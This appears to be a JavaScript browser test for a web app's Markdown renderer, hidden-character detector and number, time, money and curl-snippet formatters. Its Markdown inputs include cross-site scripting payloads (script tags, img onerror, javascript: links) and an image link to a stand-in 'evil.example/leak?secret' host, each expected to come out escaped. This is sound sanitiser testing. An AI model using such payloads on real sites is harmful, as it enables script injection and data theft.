// What is done to text before it is shown: Markdown, characters that can't be seen,
// exact numbers, figures. By the page's own modules, in a page of its own policy.
import { visit } from "./visit.mjs";

const only = ({ theme, width }) => theme === "light" && width === 1440;
const same = (what, got, want) => { if (JSON.stringify(got) !== JSON.stringify(want)) throw new Error(`${what}:\n${JSON.stringify(got)}\nwant\n${JSON.stringify(want)}`); };

await visit("text", async (v) => {
  const { page } = v;
  await v.open("/nowhere");
  const marked = await page.evaluate(async () => {
    const at = document.querySelector('script[type="module"]').src.replace("app.js", "");
    const { html, render } = await import(at + "lib/html.js"), { Markdown } = await import(at + "lib/markdown.js");
    const shown = async (text) => {
      const place = document.createElement("div");
      document.body.append(place);
      render(html`<${Markdown} text=${text} />`, place);
      for (let i = 0; i < 100 && place.querySelector(".md > div[hidden]"); i++) await new Promise((resolve) => setTimeout(resolve, 20));
      const made = place.querySelector(".md > div:not(.md-plain)").innerHTML;
      render(null, place);
      place.remove();
      return made;
    };
    const texts = ["# One\n\n**two** and `three`", "| a | b |\n|---|---|\n| 1 | 2 |", "- [x] done", "[four](https://example.org/?a=1&b=2)", "![five](https://evil.example/leak?secret)",
      "[six](javascript:alert(1))", "<script>alert(1)</script>seven", "<img src=x onerror=alert(1)>eight", "a <b onmouseover=alert(1)>nine</b>", "<style>*{display:none}</style>ten", "![\"><img src=x onerror=alert(1)>](x)"];
    return Promise.all(texts.map(shown));
  });
  const link = 'rel="noopener noreferrer nofollow" target="_blank"';
  const clean = (text) => text.replace(/\n/g, "").replace(/ target="_blank" rel="noopener noreferrer nofollow"/g, ` ${link}`);
  same("Markdown", marked.map(clean), [
    '<h1 role="heading" aria-level="3">One</h1><p><strong>two</strong> and <code>three</code></p>',
    "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>",
    '<ul><li>☑ done</li></ul>',
    `<p><a href="https://example.org/?a=1&amp;b=2" ${link}>four</a></p>`, `<p><a href="https://evil.example/leak?secret" ${link}>picture: five</a></p>`,
    `<p><a ${link}>six</a></p>`, "&lt;script&gt;alert(1)&lt;/script&gt;seven", "<p>&lt;img src=x onerror=alert(1)&gt;eight</p>", "<p>a &lt;b onmouseover=alert(1)&gt;nine&lt;/b&gt;</p>", "&lt;style&gt;*{display:none}&lt;/style&gt;ten", `<p><a ${link}>picture: "&gt;&lt;img src=x onerror=alert(1)&gt;</a></p>`,
  ]);
  const rest = await page.evaluate(async () => {
    const at = document.querySelector('script[type="module"]').src.replace("app.js", "");
    const { look, countHidden } = await import(at + "lib/hidden.js"), { parseExact, json } = await import(at + "lib/exact.js"), f = await import(at + "lib/format.js");
    const { curl } = await import(at + "lib/snippet.js"), { server } = await import(at + "lib/root.js"), { href } = await import(at + "lib/root.js");
    const exact = parseExact('{"a":12345678901234567890.50,"b":[1e2,"1.0"],"c":null}');
    const said = (text) => look(text).parts.map((part) => part.kind[0] + ":" + part.text).join("|");
    return {
      hidden: ["plain", "Har\u200bbour", "a\u00a0b\tc", "one\ntwo", "p\u0430ypal", "Привет, мир", "\u202Etxt.exe", "caf\u00e9"].map(said),
      count: countHidden(parseExact('{"a\\u200b":["\\u200f",{"b":"\\u00a0"}],"n":1.50}')),
      exact: [json(exact), JSON.stringify(exact)],
      ages: [0, 59_999, 60_000, 3_600_000, 47 * 3_600_000, 48 * 3_600_000].map(f.age),
      times: [0, 42, 400, 6_300, 31_000, 269_000, 7_380_000].map(f.duration),
      money: [102.36, 0.118, 0.0042, 0, null, 1234.5, 0.00001].map(f.money),
      tokens: [812, 1_234, 40_200, 1_200_000].map((n) => f.tokens(n)),
      curl: curl({ method: "POST", path: "/v1/runs", body: { prompt: "it's" } }).replace(server, "SERVER"),
      href: href("/runs"),
    };
  });
  same("hidden", rest.hidden, ["p:plain", "p:Har|h:U+200B|p:bour", "p:a|s:nbsp|p:b|s:tab|p:c", "p:one|s:↵|p:\ntwo", "p:p|a:а U+0430|p:ypal", "p:Привет, мир", "h:U+202E|p:txt.exe", "p:café"]);
  same("count", rest.count, 2);
  same("exact", rest.exact, ['{\n  "a": 12345678901234567890.50,\n  "b": [\n    1e2,\n    "1.0"\n  ],\n  "c": null\n}', '{"a":12345678901234567890.50,"b":[1e2,"1.0"],"c":null}']);
  same("ages", rest.ages, ["0 s", "59 s", "1 min", "1 h", "47 h", "2 d"]);
  same("times", rest.times, ["0 ms", "42 ms", "0.4 s", "6.3 s", "31 s", "4 min 29 s", "2 h 3 min"]);
  same("money", rest.money, ["$102.36", "$0.118", "$0.0042", "$0.00", "–", "$1,234.50", "< $0.0001"]);
  same("tokens", rest.tokens, ["812", "1.2 k", "40 k", "1.2 M"]);
  same("curl", rest.curl, "curl -X POST 'SERVER/v1/runs' \\\n  -H \"Authorization: Bearer $ERRAND_API_KEY\" \\\n  -H 'Content-Type: application/json' \\\n  -d '{\n  \"prompt\": \"it'\\''s\"\n}'");
  same("href", rest.href, "/ui/runs");
  await v.check();
}, only);
